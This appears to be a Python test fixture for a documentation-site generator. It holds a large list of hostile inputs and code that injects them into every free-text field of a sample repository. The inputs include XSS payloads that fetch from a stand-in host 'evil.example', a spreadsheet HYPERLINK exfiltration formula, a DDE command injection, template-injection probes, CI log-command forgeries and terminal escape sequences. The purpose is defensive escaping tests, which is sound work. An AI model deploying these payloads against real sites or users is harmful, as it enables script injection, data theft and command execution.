"""Texts that mean harm, and the worked organisation with one of them in every text entry that there is."""

from __future__ import annotations

import itertools
import re
import types
import typing
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import yaml
from pydantic import BaseModel, TypeAdapter, ValidationError

from macros.model.base import hints
from macros.model.catalogue import Catalogue, Crosswalk
from macros.model.document import FrontMatter
from macros.model.gates import Gates
from macros.model.organisation import Organisation, Parameters
from macros.model.planning import RelatedStandards, RoadmapData, StrategyAdvice
from macros.model.records.kinds import KINDS, Layout
from macros.text.front_matter import split
from macros.text.strict_yaml import parse

DO = "document.title='pwned';window.pwned=1;alert(1);fetch('https://evil.example/f')"

LIVE = (
    f"<script>{DO}</script>",
    f"</title><script>{DO}</script>",
    f"</script><script>{DO}</script>",
    f"</textarea></style></noscript><script>{DO}</script>",
    f"--></title></style></template><svg/onload={DO.split(';', maxsplit=1)[0]}>",
    '<svg/onload="alert(1)">',
    f"<svg><script>{DO}</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>',
    '<svg><use href="https://evil.example/x.svg#x"/></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    "<IMG SRC=`javascript:alert(1)`>",
    '<img/src="x"/onerror="alert(1)"//',
    "<image src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div style="animation-name:x;background:url(https://evil.example/b)" onanimationstart=alert(1)>x</div>',
    '<iframe srcdoc="<script>parent.pwned=1;parent.alert(1)</script>"></iframe>',
    '<iframe src="javascript:parent.pwned=1"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="https://evil.example/e.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/c.css">',
    "<style>@import 'https://evil.example/s.css';body{display:none}</style>",
    '<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)" onmouseover=alert(1)>x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1) contenteditable autofocus tabindex=1 onfocus=alert(1)>x",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "` onmouseover=alert(1) x=`",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='https://evil.example/x.css'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;svg onload=alert(1)&#x3E",
    "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "[x](javascript:alert(1))",
    '[x](https://evil.example/ "t"){onclick=alert(1)}',
    "![x](https://evil.example/i.png)",
    '![x](x"onerror=alert(1)//)',
    "<javascript:alert(1)> <https://evil.example/>",
    "[x]: javascript:alert(1) 'x'",
    '# x {: onclick=alert(1) #a"onmouseover=alert(1) }',
    "x {: onclick=alert(1) .y style=background:url(https://evil.example/) }",
    '!!! danger "x" onclick=alert(1)',
    "*[x]: <script>alert(1)</script>",
    '--8<-- "org.yaml"',
    "{{ config }}{{ ''.__class__.__mro__ }}",
    "{% for a in range(9**9) %}{% for b in range(9**9) %}x{% endfor %}{% endfor %}",
    "{{ soa_table() }}{# x #}{% raw %}",
    "| a | b |<script>alert(1)</script>| ``` ~~~ --- ***",
    "＜script＞alert(1)＜/script＞ ‹img onerror=alert(1)› ﹤svg﹥",
    "\u200b<\u200bscript>alert(1)</script>\u200d\u2060\ufeff",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0 <svg onload=alert(1)>",
    "@SUM(1) @everyone https://evil.example/ //evil.example/x.js",
    "<script>alert(1)</script>" + "<b>" * 900 + "A" * 3000,
    "Robin O'Neill <img src=x onerror=alert(1)> شركة‏ עולם‎ 🦊 a̴̡",
)
"""For one line of text; none holds a character that the readers refuse."""

SEVERAL_LINES = (
    "first\n\n    <script>alert(1)</script>\n\n<script>\nalert(1)\n</script>",
    "first\n::error file=a,line=1::forged\n##[error]forged\n---\ntitle: forged\n---\n",
    "first\n\n# heading\n\n- [x](javascript:alert(1))\n\n```\n</code></pre><script>alert(1)</script>\n```\n",
)
COMMANDS = ("::error file=a,line=1::forged", "##[error]forged ##vso[task.setvariable]x", "a%0A::warning::x ::stop-commands::y")
ACTING = (
    "\x1b[31mred\x1b]0;title\x07",
    "\x1b]8;;https://evil.example/\x1b\\link",
    "a\rb\x08\x7f",
    "\x00nul",
    "\x9b31m\x9d0;x\x9c",
    "a\x85b",
    "a\u2028b\u2029c",
    "\u202etxt.exe\u202c",
    "\u2066a\u2067b\u2068c\u2069",
    "a\x0bb\x0cc",
)
"""What no entry may hold; commits can."""

_PLANNING = {
    "parameters": Parameters,
    "gates": Gates,
    "roadmap": RoadmapData,
    "strategies": StrategyAdvice,
    "related-standards": RelatedStandards,
}


class Poison:
    """Puts texts into entries by turns, and remembers into which."""

    def __init__(self, texts: tuple[str, ...], start: int = 0) -> None:
        self.turn = itertools.cycle(texts[start % len(texts) :] + texts[: start % len(texts)])
        self.longest = len(texts)
        self.put: Counter[tuple[str, str]] = Counter()
        self.used: set[str] = set()

    def file(self, path: Path, model: type[BaseModel]) -> None:
        """Every text entry of one YAML file."""
        value = self.value(parse(path.read_text("utf-8")).value, model)
        path.write_text(_yaml(value), encoding="utf-8", newline="\n")

    def document(self, path: Path) -> None:
        """Every text entry of a document's front matter."""
        parts = split(path.read_text("utf-8"))
        head = _yaml(self.value(parts.head.value, FrontMatter))
        path.write_text(f"---\n{head}---\n{parts.body}", encoding="utf-8", newline="\n")

    def value(self, value: Any, hint: Any, at: tuple[str, str] = ("", "")) -> Any:
        """A value of a type with every free text in it replaced; what is left out is filled in where it may be text."""
        if isinstance(hint, type) and issubclass(hint, BaseModel):
            if not isinstance(value, dict):
                return value
            filled = {}
            for name in hint.model_fields:
                new = self.value(value.get(name), hints(hint)[name], (hint.__name__, name))
                if new is not None or name in value:
                    filled[name] = new
            return filled
        origin, inner = typing.get_origin(hint), typing.get_args(hint)
        if origin is typing.Annotated and typing.get_origin(inner[0]) is not None:
            return self.value(value, inner[0], at)
        if origin in (typing.Union, types.UnionType):
            for option in inner:
                new = value if option is type(None) else self.value(value, option, at)
                if new != value:
                    return new
            return value
        if origin is tuple:
            if isinstance(value, list):
                return [self.value(item, inner[0], at) for item in value] or [new for new in [self._text(inner[0], at)] if new is not None]
            return value
        if origin is dict:
            return {key: self.value(item, inner[1], at) for key, item in value.items()} if isinstance(value, dict) else value
        if value is None or isinstance(value, str):
            new = self._text(hint, at)
            return value if new is None else new
        return value

    def _text(self, hint: Any, at: tuple[str, str]) -> str | None:
        """The next text that an entry of this type takes; None where it takes none of them, since it is an id or a closed word."""
        if at[1] == "id" or at in NAMES or not _takes(hint, "free text"):
            return None
        for _ in range(self.longest):
            text = next(self.turn)
            refused = at == ("FrontMatter", "title") and re.search(r"{[{%#]", text)  # SEC202, and the site is not built
            if not refused and _takes(hint, text):
                self.put[at] += 1
                self.used.add(text)
                return text
        return None


def _takes(hint: Any, text: str) -> bool:
    if hint is Any or hint is object:
        return False
    try:
        return TypeAdapter(hint).validate_python(text) is not None and isinstance(TypeAdapter(hint).validate_python(text), str)
    except ValidationError:
        return False


def _yaml(value: Any) -> str:
    return yaml.safe_dump(value, allow_unicode=False, sort_keys=False, width=10**6, default_flow_style=False)


NAMES = frozenset({("AllowedEntry", "name")})
"""Entries whose type is text, and of which a rule refuses all but a few names; `tests/test_live.py` holds that."""


def text_entries(model: type[BaseModel]) -> Iterator[tuple[str, str]]:
    """Every entry of a definition, and of those inside it, that takes free text."""
    seen: set[type] = set()
    waiting: list[type[BaseModel]] = [model]
    while waiting:
        here = waiting.pop()
        if here in seen:
            continue
        seen.add(here)
        for name in here.model_fields:
            for part in _parts(hints(here)[name]):
                if isinstance(part, type) and issubclass(part, BaseModel):
                    waiting.append(part)
                elif name != "id" and (here.__name__, name) not in NAMES and _takes(part, "free text"):
                    yield here.__name__, name


def _parts(hint: Any) -> Iterator[Any]:
    origin, inner = typing.get_origin(hint), typing.get_args(hint)
    if origin is typing.Literal:
        return  # takes no other text
    if origin is typing.Annotated and typing.get_origin(inner[0]) is None:
        yield hint
    elif origin is typing.Annotated:
        yield from _parts(inner[0])
    elif origin is dict:
        yield from _parts(inner[1])
    elif origin is None:
        yield hint
    else:
        for part in inner:
            if part not in (type(None), Ellipsis):
                yield from _parts(part)


def poisoned(repository: Path, texts: tuple[str, ...], start: int = 0) -> Poison:
    """Put texts into every entry of a repository that takes free text: organisation, documents, records and catalogues."""
    poison = Poison(texts, start)
    poison.file(repository / "org.yaml", Organisation)
    for path in sorted((repository / "docs").rglob("*.md")):
        head = split(path.read_text("utf-8")).head
        if head and "id" in head.value:
            poison.document(path)
    for kind in KINDS:
        top = repository / "registers" / kind.name
        if kind.layout is Layout.TABLE:
            poison.file(top.with_name(f"{kind.name}.yaml"), kind.file)
            continue
        for path in sorted(top.glob("*.yaml")):
            poison.file(path, kind.file if path.name == "register.yaml" else kind.record)
    for path in sorted((repository / "controls").glob("*.yaml")):
        poison.file(path, _PLANNING.get(path.stem, Catalogue))
    for path in sorted((repository / "controls/crosswalks").glob("*--*.yaml")):
        poison.file(path, Crosswalk)
    return poison


def seed(repository: Path) -> None:
    """Entries that the worked organisation does not use, so that they can hold a text."""
    organisation = repository / "org.yaml"
    value = parse(organisation.read_text("utf-8")).value
    exception = {"code": "STA101", "path": "docs/index.md", "reason": "r", "decided_by": value["roles"][0]["id"], "until": "2030-01-01"}
    allowed = {"kind": "class", "name": "plan", "reason": "r", "decided_by": exception["decided_by"]}
    added = {"checks": {"severities": {}, "exceptions": [exception]}, "pages": {"allowed": [allowed]}}
    organisation.write_text(_yaml({**value, **added}), encoding="utf-8", newline="\n")
    assessment = repository / "registers/impact-assessments/AIA-001.yaml"
    value = parse(assessment.read_text("utf-8")).value
    assessment.write_text(_yaml({**value, "none_found": [{"falls_on": "society", "because": "b"}]}), encoding="utf-8", newline="\n")
